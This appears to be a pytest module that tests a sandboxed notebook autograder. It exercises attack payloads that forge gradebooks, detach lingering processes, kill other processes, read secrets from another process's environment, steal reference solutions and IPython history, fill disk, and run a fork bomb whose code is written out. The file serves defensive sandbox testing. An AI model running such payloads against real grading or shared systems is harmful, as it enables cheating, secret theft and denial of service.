def test_payload_4_rewrites_the_gradebooks_it_finds(tmp_path):
    out = tmp_path / "somewhere" / "grades"
    (out / "alice" / "00").mkdir(parents=True)
    (out / "grades.csv").write_text("student\nalice\n")
    (out / "alice" / "00" / "result.json").write_text('{"score": 1}')
    (out / gradebook.MANIFEST).write_text(json.dumps({"complete": True}))
    attack = _load_payload(OUTLIVE, "outlive")
    assert attack["complete"]([str(tmp_path)])
    attack["outlive"](time.time() + 60, time.time(), [str(tmp_path)])  # not yet its time: the complete run
    assert (out / "grades.csv").read_text() == attack["FORGED"]["grades.csv"]
    assert (out / "alice" / "00" / "result.json").read_text() == attack["FORGED"]["result.json"]


def test_payload_detach_leaves_a_process_that_outlives_its_starter(tmp_path):
    """detach (in the payloads of classes 3 and 4, and the killed graders' sleeper) leaves a process
    of another session, the marker in its argv, running the payload's entry once its starter is gone."""
    marker, done = f"{MARK}-detach-{uuid.uuid4().hex[:8]}", tmp_path / "done"
    script = (f"{_payload(SLEEPER)}\nSOURCE = {_payload(SLEEPER)!r}\n"
              f"detach({marker!r}, 'sleep', {patience.seconds(30):.0f})\nopen({str(done)!r}, 'w').close()")
    subprocess.run([sys.executable, "-c", script], check=True, timeout=patience.seconds(30))
    try:
        assert done.exists() and _eventually(lambda: _pids(marker), 10)
        (pid,) = _pids(marker)
        assert os.getsid(pid) != os.getsid(0)
    finally:
        for pid in _pids(marker):
            os.kill(pid, signal.SIGKILL)


def test_payload_5_writes_to_a_processs_stdout_and_kills_it():
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", f"{MARK}-victim-5"],
                              stdout=subprocess.PIPE, start_new_session=True)
    try:
        report = _load_payload(KILL, "kill")["attack"]([victim.pid], everything=False)
        assert victim.wait(patience.seconds(10)) == -signal.SIGKILL
        assert json.loads(victim.stdout.readline()) == {"pid": os.getpid()}
        assert " wrote=1 killed=" in report and "groups=1" in report, report
    finally:
        victim.kill()
        victim.wait()


def test_payload_6_reads_a_secret_in_another_processs_environment():
    victim = subprocess.Popen(["sleep", "60"], env={SECRET[0]: SECRET[1]})
    try:
        report = _load_payload(ENVIRON, "environ")["attack"]()
    finally:
        victim.kill()
        victim.wait()
    assert f"{SECRET[0]}={SECRET[1]}" in report


def test_payload_7_returns_the_reference_where_course_teacher_is_importable():
    stolen = _load_payload(REFERENCES, "references")["stolen"]

    def padding_mask(lengths, max_len):
        raise NotImplementedError

    from course_teacher.exercises import EXERCISES

    assert stolen("00.padding_mask", padding_mask) is EXERCISES["00.padding_mask"].reference


def test_payload_8_finds_the_solutions_other_notebooks_and_the_history(tmp_path):
    _honest(tmp_path / "submissions" / "alice", "ann")
    home = tmp_path / "home"
    (home / ".ipython" / "profile_default").mkdir(parents=True)
    with sqlite3.connect(home / ".ipython" / "profile_default" / "history.sqlite") as db:
        db.execute("CREATE TABLE history (session integer, line integer, source text, source_raw text)")
        db.execute("INSERT INTO history VALUES (1, 1, 'def padding_mask(lengths, max_len): ...', '')")
    attack = _load_payload(SOLUTIONS, "solutions")
    found = attack["find"]([str(tmp_path)], str(home), proc=False)
    assert len(found["solutions"]) == 2 and found["history"]
    assert str(tmp_path / "submissions" / "alice" / L00) in found["notebooks"]

    def padding_mask(lengths, max_len):
        raise NotImplementedError

    stolen = attack["stolen"]("00.padding_mask", padding_mask, [str(tmp_path)], str(home), proc=False)
    assert evaluate("00.padding_mask", stolen).status == "passed"


def test_payload_11_fills_a_folder_until_its_limit(tmp_path):
    report = _load_payload(DISK, "disk")["attack"]([str(tmp_path)], limit=2**25)
    assert report == f"{tmp_path}=48MB:none" and len(list(tmp_path.glob("fill-*.bin"))) == 1


# ----------------------------------------------------------------------------- a grader that is killed

def _killable_class(root, marker):
    """a-first finishes at once (not JSON); b-sleeper starts a detached process (`marker` in its argv)
    and holds its cell; c, d and e are honest and take their time."""
    (root / "a-first").mkdir(parents=True)
    (root / "a-first" / L00).write_text("{ not JSON", encoding="utf-8")
    # (held longer on a busy machine: the test must see its sandbox running before it ends)
    call = f"attack({marker!r}, seconds={patience.seconds(120):.0f}, hold={patience.seconds(6):.0f})"
    _lesson00(root / "b-sleeper", ("00.padding_mask", _attack_cell("K", SLEEPER, call)))
    for student in ("c", "d", "e"):
        _honest(root / student, "ann")


def _finished(out):
    """The submissions whose result.json the gradebook wrote."""
    return {p.parent.relative_to(out).as_posix() for p in out.rglob("result.json")}


@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGTERM], ids=["SIGKILL", "SIGTERM"])
def test_a_killed_grader_leaves_a_valid_gradebook_and_nothing_running(how, tmp_path):
    """The grader with the scan off (so that the sleeper runs) on a few submissions, killed once the
    first result is written and while two sandboxes run (one with a detached process in it).
    Whatever the signal: grades.csv is valid and holds exactly the submissions that finished, and no
    process of the run survives. SIGKILL leaves the temporary folder to the next run, which removes
    it; SIGTERM stops the grader (exit 130), which kills its kernels, starts no other and removes its
    temporary folder."""
    _sandbox_or_skip()
    root, out, log = tmp_path / "submissions", tmp_path / "grades", tmp_path / "grader.log"
    marker = f"{MARK}-killed-{how.name}"
    _killable_class(root, marker)
    with open(log, "w") as printed:
        process = subprocess.Popen(_grader_command(root, out, scanned=False), cwd=ROOT, stdout=printed,
                                   stderr=subprocess.STDOUT)
    try:
        assert _eventually(lambda: _finished(out) and _pids(marker), 90), log.read_text()
        running = _descendants(process.pid)
        commands = {pid: _cmdline(pid) for pid in running}
        assert any(b"bwrap" in c for c in commands.values()) and any(b"ipykernel" in c for c in commands.values())
        assert set(_pids(marker)) <= set(running)  # the detached process: a descendant still (bwrap's init)
        os.kill(process.pid, how)
        started = set()  # sandboxes started after the signal
        deadline = patience.Deadline(20)
        while process.poll() is None and not deadline.passed():
            started |= {pid for pid in _descendants(process.pid) if pid not in running and b"bwrap" in _cmdline(pid)}
            time.sleep(0.05)
        code = process.poll()  # None: still running, 20 s (stretched) after the signal
    finally:
        if process.poll() is None:
            process.kill()
        process.wait()
    assert _eventually(lambda: not _alive(running), 15), [commands[pid] for pid in _alive(running)]
    assert not _pids(marker)
    # grades.csv: valid, and exactly the submissions that finished
    table = list(csv.DictReader(io.StringIO((out / "grades.csv").read_text(encoding="utf-8"))))
    assert table and all(len(row) == len(gradebook.CSV_COLUMNS) and None not in row.values() for row in table)
    assert {row["submission"][:-len(".ipynb")] for row in table} == _finished(out)
    assert "a-first/00_tensor_shapes" in _finished(out)
    assert json.loads((out / gradebook.MANIFEST).read_text())["complete"] is False
    if how == signal.SIGKILL:  # nothing could clean up: the next run removes the dead run's temporary folder
        assert _temporaries(process.pid), "the killed grader's temporary folder is not where it should be"
        (tmp_path / "next" / "a-first").mkdir(parents=True)
        shutil.copy(root / "a-first" / L00, tmp_path / "next" / "a-first" / L00)
        _grade_here(tmp_path / "next", tmp_path / "next-out")
        assert _temporaries(process.pid) == []
    else:
        assert code is not None, f"the grader still ran {deadline.limit():.0f} s after SIGTERM:\n{log.read_text()}"
        assert code == 130, f"exit code {code} after SIGTERM:\n{log.read_text()}"
        assert "stopped: the gradebook" in log.read_text()
        assert not started, "the grader started kernels after it was told to stop"
        assert _temporaries(process.pid) == [], "a stopped grader removes its temporary folder"


HOLD = r'''
import os, time

children = []
try:
    while len(children) < 400:
        pid = os.fork()
        if pid == 0:
            time.sleep(SECONDS)
            os._exit(0)
        children.append(pid)
except OSError:
    pass
time.sleep(SECONDS)
'''


@pytest.mark.skipif(os.geteuid() != 0, reason="a uid per kernel, and its process limit, is the root mode's")
def test_11_a_fork_bomb_in_one_grader_does_not_stop_another_graders_kernels(tmp_path, tmp_path_factory):
    """Two graders on one machine (two assignments graded at once, or test modules run in parallel):
    RLIMIT_NPROC counts the processes of a uid machine-wide (launch.py), so a fork bomb in one
    grader's kernel must not take the process limit of the other grader's kernels. Each kernel
    claims a uid no running kernel holds, whichever grader started it (sandbox.claim): here a bomb,
    graded with the scan off (the scan would review os.fork), holds its uid's processes while
    another grading (grade_one, in this process: a kernel of its own) runs to the end with full marks."""
    _sandbox_or_skip()
    # the bomb holds its processes for 120 s on a quiet machine, longer on a busy one (tests/patience.py):
    # longer than the other grading takes
    hold = patience.seconds(120)
    _lesson00(tmp_path / "bomb" / "mallory", ("00.padding_mask", HOLD.replace("SECONDS", f"{hold:.0f}")))
    options = ["--jobs", "1", "--cells", "own", "--cell-timeout", f"{hold + patience.seconds(180):.0f}"]
    with open(tmp_path / "bomb.log", "w") as printed:
        bomb = subprocess.Popen(_grader_command(tmp_path / "bomb", tmp_path / "bomb-out", False, options), cwd=ROOT,
                                stdout=printed, stderr=subprocess.STDOUT)
    try:
        def held():  # the uids of the bomb's grader's processes that hold more than 200
            return [uid for uid, count in _uids(_descendants(bomb.pid)).items() if count > 200]

        assert _eventually(held, 90), (tmp_path / "bomb.log").read_text()
        (uid,) = held()
        assert sandbox.FIRST_UID <= uid < sandbox.FIRST_UID + sandbox.UIDS
        bombs = _descendants(bomb.pid)
        _honest(tmp_path / "submissions" / "ann", "ann")
        (tmp_path / "work").mkdir()
        # (the limits stretched on a busy machine: what is proved is that the bomb takes none of this
        # grading's processes, not how fast it grades)
        options = grader.Options(time_limit=patience.seconds(2), cell_timeout=patience.seconds(8), cells="own",
                                 answers=answer_keys.key(tmp_path_factory, "00"))
        graded = grader.grade_one(tmp_path / "submissions" / "ann" / L00, "ann/00_tensor_shapes", "ann", options,
                                  folder=tmp_path / "work")
        assert held() == [uid], "the bomb let go before the other grading ended"
    finally:
        bomb.send_signal(signal.SIGTERM)
        try:
            bomb.wait(patience.seconds(30))
        except subprocess.TimeoutExpired:
            bomb.kill()
            bomb.wait()
    assert [(row.status, row.code) for row in graded.rows] == [("passed", "")] * 4, [
        (row.exercise, row.code, row.message) for row in graded.rows]
    assert _eventually(lambda: not _alive(bombs), 15), "the bomb outlived its grader"
